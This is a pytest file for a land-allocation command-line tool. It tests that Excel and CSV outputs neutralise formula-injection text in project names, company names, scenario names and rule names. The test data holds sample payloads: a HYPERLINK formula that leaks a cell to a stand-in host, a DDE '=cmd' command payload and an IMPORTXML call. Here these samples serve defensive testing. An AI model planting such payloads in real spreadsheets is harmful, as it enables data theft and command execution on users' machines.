"""Formula injection: text from the data is never a live formula in a workbook or a CSV."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from builders import parcel, project, tables, write_gpkg
from openpyxl import Workbook, load_workbook

from geodata.textsafe import (
    neutralise_csv_text,
    neutralise_text,
    restore_csv_text,
    restore_text,
    text_cells_as_text,
)
from landalloc.cli import main

LINK = '=HYPERLINK("http://x?leak="&A2,"点击")'
CMD = "=cmd|' /C calc'!A0"
XML = '=IMPORTXML("http://x","//a")'
MINUS = "-2+3 公司"

# --------------------------------------------------------------------------- helpers


@pytest.mark.parametrize("text", [LINK, CMD, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_neutralise_text_prefixes_formula_starts(text: str) -> None:
    assert neutralise_text(text) == "'" + text
    assert restore_text(neutralise_text(text)) == text


@pytest.mark.parametrize("value", ["光子芯片", "a=b", "", "'=x", " =1", 1, -2.5, None])
def test_neutralise_text_leaves_other_values(value: object) -> None:
    assert neutralise_text(value) == value
    assert neutralise_text("'=x") == "'=x"  # idempotent: never a second '


def test_neutralise_csv_text_touches_only_text_columns() -> None:
    df = pd.DataFrame(
        {
            "project_id": ["=J1", "-07"],
            "name": [LINK, "光子"],
            "company": [CMD, None],
            "reason": ["+x", "ok"],
            "investment_yi": [-1.5, 2.0],
            "year": [2026, 2027],
        }
    )
    before = df.copy()
    out = neutralise_csv_text(df)
    pd.testing.assert_frame_equal(df, before)  # a copy; the input is unchanged
    assert out["name"].tolist() == ["'" + LINK, "光子"]
    assert out["company"].iloc[0] == "'" + CMD and pd.isna(out["company"].iloc[1])
    assert out["reason"].tolist() == ["'+x", "ok"]
    for col in ("project_id", "investment_yi", "year"):
        pd.testing.assert_series_equal(out[col], df[col])
    assert neutralise_csv_text(df, ["name"])["company"].iloc[0] == CMD
    pd.testing.assert_frame_equal(restore_csv_text(out), df)


def test_neutralise_csv_text_string_dtype_and_missing_values() -> None:
    df = pd.DataFrame({"name": pd.Series(["=1", None], dtype="string")})
    out = neutralise_csv_text(df)
    assert out["name"].iloc[0] == "'=1" and pd.isna(out["name"].iloc[1])


def test_text_cells_as_text_keeps_text_verbatim(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    ws.append([LINK, CMD, "#N/A", "plain", 3, -1.5])
    assert ws["A1"].data_type == "f"  # what openpyxl does with such a str by itself
    text_cells_as_text(ws)
    wb.save(tmp_path / "t.xlsx")
    row = next(load_workbook(tmp_path / "t.xlsx").active.iter_rows())
    assert [c.data_type for c in row] == ["s", "s", "s", "s", "n", "n"]
    assert [c.value for c in row] == [LINK, CMD, "#N/A", "plain", 3, -1.5]


# --------------------------------------------------------------------------- CLI


def _no_formulas(path: Path) -> list[str]:
    """Every string cell of every sheet, after asserting none is a formula."""
    wb = load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{path.name}!{ws.title}!{c.coordinate}: {c.value}"
                if isinstance(c.value, str):
                    texts.append(c.value)
    return texts


def _data(tmp_path: Path) -> Path:
    """Three projects of 45 亩 on three parcels; the 2026 quota of 100 亩 places two."""
    t = tables(
        [parcel("P1", 50, 0), parcel("P2", 50, 1000), parcel("P3", 50, 2000)],
        [
            project("-07", land_mu=45, inv=5.0, name=LINK, company=CMD, stage="signed"),
            project("J2", land_mu=45, inv=3.0, name="光子", company="@公司"),
            project("J3", land_mu=45, inv=1.0, name=XML, company=MINUS),
        ],
        {2026: 100.0},
    )
    return write_gpkg(t, tmp_path / "d.gpkg")


def _scenario(tmp_path: Path, stem: str, name: str, quota: float | None = None) -> Path:
    p = tmp_path / f"{stem}.yaml"
    text = (
        f"name: '{name}'\ndata: d.gpkg\nyears: [2026]\n"
        "solver: {time_limit_s: 2, deterministic: true}\n"
    )
    if quota is not None:
        text += f"quotas:\n  override:\n    - {{year: 2026, zone: '*', land_mu: {quota}}}\n"
    p.write_text(text, encoding="utf-8")
    return p


def test_solve_outputs_hold_hostile_names_as_text(tmp_path: Path) -> None:
    _data(tmp_path)
    out = tmp_path / "out"
    assert main(["solve", str(_scenario(tmp_path, "s", "情景")), "--out", str(out)]) == 0
    texts = _no_formulas(out / "report.xlsx")
    wb = load_workbook(out / "report.xlsx")
    for sheet in ("落地项目", "开工条件"):
        names = [c.value for c in wb[sheet]["B"]]
        assert names[0] == "项目名称" and LINK in names, sheet
    assert CMD in texts and XML in texts and MINUS in texts  # placed and unplaced, verbatim

    a = pd.read_csv(out / "assignments.csv", dtype=str, keep_default_na=False)
    assert sorted(a["project_id"]) == ["-07", "J2"]  # ids exactly as in the data
    placed = a.set_index("project_id")
    assert placed.loc["-07", "name"] == "'" + LINK and placed.loc["-07", "company"] == "'" + CMD
    assert placed.loc["J2", "name"] == "光子" and placed.loc["J2", "company"] == "'@公司"
    assert float(str(placed.loc["-07", "investment_yi"])) == 5.0
    u = pd.read_csv(out / "unassigned.csv", dtype=str, keep_default_na=False)
    assert u["project_id"].tolist() == ["J3"]
    assert u["name"].tolist() == ["'" + XML] and u["company"].tolist() == ["'" + MINUS]
    r = pd.read_csv(out / "readiness_projects.csv", dtype=str, keep_default_na=False)
    assert r.set_index("project_id").loc["-07", "name"] == "'" + LINK


def test_compare_outputs_hold_hostile_names_as_text(tmp_path: Path) -> None:
    _data(tmp_path)
    a = _scenario(tmp_path, "base", "基准")
    b = _scenario(tmp_path, "more", "=1+2", quota=200.0)  # J3 (named XML) is gained
    out = tmp_path / "cmp"
    args = ["compare", str(a), str(b), "--out", str(out), "--no-map", "--time-limit", "2"]
    assert main(["--lang", "en", *args]) == 0
    texts = _no_formulas(out / "compare.xlsx")
    assert "=1+2" in texts and XML in texts  # verbatim: scenario header, project name
    assert "'" + XML not in texts
    d = pd.read_csv(out / "differences.csv", dtype=str, keep_default_na=False)
    assert d["project_id"].tolist() == ["J3"]
    gained = d.iloc[0]
    assert gained["change"] == "gained" and gained["scenario"] == "'=1+2"
    assert gained["name"] == "'" + XML  # neutralised once, not twice
    k = pd.read_csv(out / "kpi_table.csv", dtype=str, keep_default_na=False)
    assert list(k.columns) == ["key", "kpi", "基准", "'=1+2"]
    assert list(k.set_index("key").loc["projects_placed"])[1:] == ["2", "3"]


def test_readiness_outputs_hold_hostile_rule_names_as_text(tmp_path: Path) -> None:
    import yaml

    from geodata.instance import READINESS_ITEMS

    ready = {f"ready_{k}": "2024-06-01" for k in READINESS_ITEMS}
    t = tables(
        [
            parcel("-P1", 50, 0, **ready),
            parcel("P2", 50, 1000, **{**ready, "ready_planning": None}),
        ],
        [project("J1", land_mu=45, name=LINK)],
        {2026: 100.0},
    )
    data = write_gpkg(t, tmp_path / "d.gpkg")
    rules = tmp_path / "rules.yaml"
    rules.write_text(
        yaml.safe_dump({"preconditions": {"planning": {"name_zh": XML, "owner_zh": CMD}}}),
        encoding="utf-8",
    )
    out = tmp_path / "out"
    args = ["readiness", str(data), "--today", "2025-06-30", "--rules", str(rules)]
    assert main([*args, "--out", str(out)]) == 0
    texts = _no_formulas(out / "readiness.xlsx")
    assert CMD in texts and any(s.startswith(XML) for s in texts)
    inv = pd.read_csv(out / "readiness_parcels.csv", dtype=str, keep_default_na=False)
    assert inv["parcel_id"].tolist() == ["-P1", "P2"]  # ids exactly as in the data
    assert str(inv.set_index("parcel_id").loc["P2", "missing"]).startswith("'" + XML)
    dep = pd.read_csv(out / "readiness_departments.csv", dtype=str, keep_default_na=False)
    assert dep["owner_zh"].tolist() == ["'" + CMD]
    assert main([*args, "--project", "J1", "--out", str(out)]) == 0
    texts = _no_formulas(out / "readiness_project_J1.xlsx")
    assert any(s.startswith(XML) for s in texts)
    ranked = pd.read_csv(out / "readiness_project_J1.csv", dtype=str, keep_default_na=False)
    assert str(ranked.set_index("parcel_id").loc["P2", "missing"]).startswith("'" + XML)
